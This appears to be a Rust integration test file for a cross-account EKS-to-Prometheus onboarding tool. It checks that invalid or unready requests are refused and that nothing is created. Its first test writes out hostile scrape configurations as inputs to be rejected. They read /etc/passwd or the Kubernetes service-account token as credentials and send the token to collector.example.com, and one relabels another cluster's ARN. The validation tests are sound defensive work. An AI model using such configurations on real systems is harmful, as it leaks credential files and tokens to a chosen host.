//! Requests that fail a check: the name of the error, its message, and no resource in any account.

use crate::{
    command::{commands_of, run_command},
    deployment::{Accounts, SOURCE, TARGET, deployment, pair_of, text, with},
};
use aws_sdk_eks::types::AuthenticationMode;
use driver::demo;
use serde_json::{Value, json};

/// Asserts that an onboarding fails with an error, and that its cause contains a text.
async fn assert_refused(accounts: &Accounts, request: &Value, error: &str, text: &str) {
    let run = accounts.onboard(request).await;
    let cause = run.cause.unwrap_or_default();
    assert_eq!(run.error.as_deref(), Some(error), "{request}: {cause}");
    assert!(cause.contains(text), "{request}: {cause:?} does not contain {text:?}");
}

#[tokio::test]
async fn an_invalid_request_fails_with_the_name_of_its_field() {
    let accounts = deployment().accounts(SOURCE, TARGET);
    let valid = accounts.pair("refused").await;
    let job = "scrape_configs:\n- job_name: a\n  authorization: {credentials_file: /etc/passwd}\n";
    // The token of the scraper's service account would be sent to a host that the author of the request chooses.
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let stolen = format!(
        "scrape_configs:\n- job_name: a\n  authorization: {{credentials_file: {token}}}\n  static_configs: [{{targets: \
         [collector.example.com]}}]\n"
    );
    let other = "arn:aws:eks:us-west-2:777777777777:cluster/other";
    let relabelled = format!(
        "scrape_configs:\n- job_name: a\n  kubernetes_sd_configs: [{{role: pod}}]\n  relabel_configs: \
         [{{target_label: clusterArn, replacement: \"{other}\"}}]\n"
    );
    for (request, message) in [
        (json!([valid]), "clusterArn"),
        (with(&valid, json!({ "clusterarn": valid["clusterArn"] })), "clusterarn"),
        (
            with(&valid, json!({ "activationTimeoutMinutes": 0 })),
            "activationTimeoutMinutes",
        ),
        (with(&valid, json!({ "scrapeConfiguration": job })), "credentials_file"),
        (
            with(&valid, json!({ "scrapeConfiguration": stolen })),
            "kubernetes.default.svc",
        ),
        (with(&valid, json!({ "scrapeConfiguration": relabelled })), "clusterArn"),
        (
            with(&valid, json!({ "externalLabels": { "clusterArn": other } })),
            "externalLabels.clusterArn",
        ),
    ] {
        assert_refused(&accounts, &request, "InvalidRequest", message).await;
    }
    accounts.assert_nothing_was_created().await;
}

#[tokio::test]
async fn a_cluster_that_cannot_be_scraped_is_refused_with_the_command_that_fixes_it() {
    let accounts = deployment().accounts(SOURCE, TARGET);
    let mut closed = demo::Cluster::named("closed");
    closed.private_access = false;
    assert_refused(
        &accounts,
        &accounts.pair_of(&closed).await,
        "NotReady",
        "--resources-vpc-config endpointPrivateAccess=true",
    )
    .await;
    let mut old = demo::Cluster::named("old");
    old.mode = AuthenticationMode::ConfigMap;
    let request = accounts.pair_of(&old).await;
    assert_refused(
        &accounts,
        &request,
        "NotReady",
        "--access-config authenticationMode=API_AND_CONFIG_MAP",
    )
    .await;
    assert_refused(&accounts, &request, "NotReady", "\"clusterAccess\": \"MANUAL\"").await;
    let absent = text(&request["clusterArn"]).replace("/old", "/absent");
    assert_refused(
        &accounts,
        &with(&request, json!({ "clusterArn": absent })),
        "NotReady",
        &format!("{absent} does not exist"),
    )
    .await;
    accounts.assert_nothing_was_created().await;
}

/// EKS applies one update of a cluster at a time.
#[tokio::test]
async fn the_commands_that_fix_a_cluster_succeed_one_after_another_and_the_cluster_can_then_be_onboarded() {
    let accounts = deployment().accounts(SOURCE, TARGET);
    // Longer than the AWS CLI takes to start.
    let mut default = demo::Cluster::named("default").tag("local:updating-minutes", "400");
    default.private_access = false;
    default.mode = AuthenticationMode::ConfigMap;
    let request = accounts.pair_of(&default).await;
    let run = accounts.onboard(&request).await;
    assert_eq!(run.error.as_deref(), Some("NotReady"), "{:?}", run.cause);
    let cause = run.cause.unwrap_or_default();
    let [private, wait, mode] = commands_of(&cause)[..] else {
        panic!("expected three commands: {cause}");
    };
    run_command(&accounts.source, private).unwrap();
    let refused = run_command(&accounts.source, mode).unwrap_err();
    assert!(refused.contains("ResourceInUseException"), "{refused}");
    run_command(&accounts.source, wait).unwrap();
    let untag = accounts
        .source
        .eks()
        .untag_resource()
        .tag_keys("local:updating-minutes");
    untag.resource_arn(text(&request["clusterArn"])).send().await.unwrap();
    run_command(&accounts.source, mode).unwrap();
    accounts.onboarded(&request).await;
}

#[tokio::test]
async fn a_workspace_that_does_not_exist_or_is_not_active_is_refused() {
    let accounts = deployment().accounts(SOURCE, TARGET);
    let request = accounts.pair("no-workspace").await;
    let workspace = text(&request["workspaceArn"]);
    let absent = format!("{}-0", &workspace[..workspace.len() - 2]);
    assert_refused(
        &accounts,
        &with(&request, json!({ "workspaceArn": absent })),
        "NotReady",
        &format!("{absent} does not exist"),
    )
    .await;
    let creating = accounts
        .target
        .amp()
        .create_workspace()
        .tags("local:creating-minutes", "100000")
        .send()
        .await
        .unwrap();
    assert_refused(
        &accounts,
        &with(&request, json!({ "workspaceArn": creating.arn })),
        "NotReady",
        "is CREATING; it must be ACTIVE",
    )
    .await;
    accounts.assert_nothing_was_created().await;
}

#[tokio::test]
async fn a_network_that_does_not_meet_the_prerequisites_is_refused() {
    let accounts = deployment().accounts(SOURCE, TARGET);
    let (account, region) = (&accounts.source, &accounts.source.region);
    let subnets = demo::default_subnets(account).unwrap();
    let set_free_addresses = |id: &str, count: u32| {
        let body = json!({ "account": account.id, "region": region, "subnetId": id, "availableIpAddressCount": count });
        deployment().cloud.tell("subnets", &body).unwrap();
    };
    let request = accounts.pair("network").await;
    let first = &subnets[0];

    let vpc = first.vpc.as_str();
    let absent = "subnet-00000000000000000";
    assert_refused(
        &accounts,
        &with(&request, json!({ "subnetIds": [first.id, absent] })),
        "InvalidRequest",
        "subnetIds[1]: subnet-00000000000000000 does not exist",
    )
    .await;
    let groups = with(&request, json!({ "securityGroupIds": ["sg-00000000000000000"] }));
    assert_refused(
        &accounts,
        &groups,
        "InvalidRequest",
        "securityGroupIds[0]: sg-00000000000000000 does not exist",
    )
    .await;

    for subnet in &subnets[1..] {
        set_free_addresses(&subnet.id, 0);
    }
    assert_refused(
        &accounts,
        &request,
        "NotReady",
        "free IP addresses in 1 Availability Zone(s)",
    )
    .await;
    for subnet in &subnets[1..] {
        set_free_addresses(&subnet.id, 50);
    }

    let set_dns_hostnames = |value: &str| {
        let parameters = [("VpcId", vpc), ("EnableDnsHostnames.Value", value)];
        account.ec2("ModifyVpcAttribute", &parameters).unwrap();
    };
    set_dns_hostnames("false");
    assert_refused(&accounts, &request, "NotReady", "--enable-dns-hostnames").await;
    set_dns_hostnames("true");
    accounts.assert_nothing_was_created().await;
}

#[tokio::test]
async fn a_role_without_our_tags_is_a_conflict_and_stays_unchanged() {
    let accounts = deployment().accounts(SOURCE, TARGET);
    let request = accounts.pair("foreign").await;
    let pair = pair_of(&request);
    let trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#;
    let name = pair.target_role_name();
    accounts
        .target
        .iam()
        .create_role()
        .role_name(&name)
        .assume_role_policy_document(trust)
        .send()
        .await
        .unwrap();
    assert_refused(&accounts, &request, "Conflict", &name).await;
    let current = ampxa_cli::document::trust(&accounts.target, &pair.target_role_arn())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(current, serde_json::from_str::<Value>(trust).unwrap());
}

/// Vendors connect clusters with scrapers of their own.
#[tokio::test]
async fn a_scraper_of_someone_else_is_a_conflict_that_names_its_manager_and_stays_unchanged() {
    let accounts = deployment().new_accounts();
    let request = with(&accounts.pair("vendor").await, json!({ "alias": "agentless" }));
    let output = accounts.onboarded(&request).await;
    // The scraper of a vendor: the same without the tags of the pair.
    let amp = accounts.source.amp();
    let untag = amp.untag_resource().resource_arn(text(&output["scraperArn"]));
    let untagged = untag.tag_keys("ampxa:cluster").tag_keys("ampxa:workspace");
    untagged.tag_keys("ampxa:created-by").send().await.unwrap();
    let tag = amp.tag_resource().resource_arn(text(&output["scraperArn"]));
    tag.tags("ManagedBy", "vendor").send().await.unwrap();
    let before = accounts.resources();
    let run = accounts.onboard(&request).await;
    let cause = run.cause.unwrap_or_default();
    assert_eq!(run.error.as_deref(), Some("Conflict"), "{cause}");
    for expected in [
        text(&output["scraperArn"]),
        "alias \"agentless\"",
        "ManagedBy = \"vendor\"",
        "write the same samples twice",
        "Nothing was created.",
    ] {
        assert!(cause.contains(expected), "{cause}");
    }
    assert!(!cause.to_lowercase().contains("delete"), "{cause}");
    assert_eq!(accounts.resources(), before);
}

/// The condition of the hub's policies denies an account outside the organization, although its stack trusts the hub.
#[tokio::test]
async fn a_workspace_outside_the_organization_is_refused() {
    let accounts = deployment().accounts_outside_the_organization();
    let request = accounts.pair("outside").await;
    assert_refused(&accounts, &request, "AccessDenied", "sts:AssumeRole").await;
    accounts.assert_nothing_was_created().await;
}
